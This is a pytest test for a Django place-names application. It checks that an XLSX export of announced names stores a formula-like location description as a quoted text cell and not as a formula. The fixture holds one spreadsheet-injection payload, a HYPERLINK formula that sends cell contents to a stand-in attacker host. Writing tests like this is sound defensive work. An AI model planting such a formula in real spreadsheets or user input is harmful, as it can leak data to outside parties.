"""An announced name whose location description reads like a formula is a text cell in the XLSX."""

import io

import pytest
from openpyxl import load_workbook

from placenames.models import ApplicationState as S
from tests.base import lucheng_officer, lucheng_reviewer
from tests.placenames.builders import draft, walk

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"详情")'


def test_a_formula_like_location_is_a_quoted_string_cell(wenzhou_counties, client):
    officer, reviewer = lucheng_officer(), lucheng_reviewer()
    walk(draft(officer, "望海路", location_description=HOSTILE), officer, reviewer, S.FILED)
    client.force_login(officer)

    sheet = load_workbook(io.BytesIO(client.get("/placenames/announcements.xlsx?county=330302").content)).active

    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    [location] = [c for c in cells if c.value == HOSTILE]
    assert location.data_type == "s" and location.quotePrefix
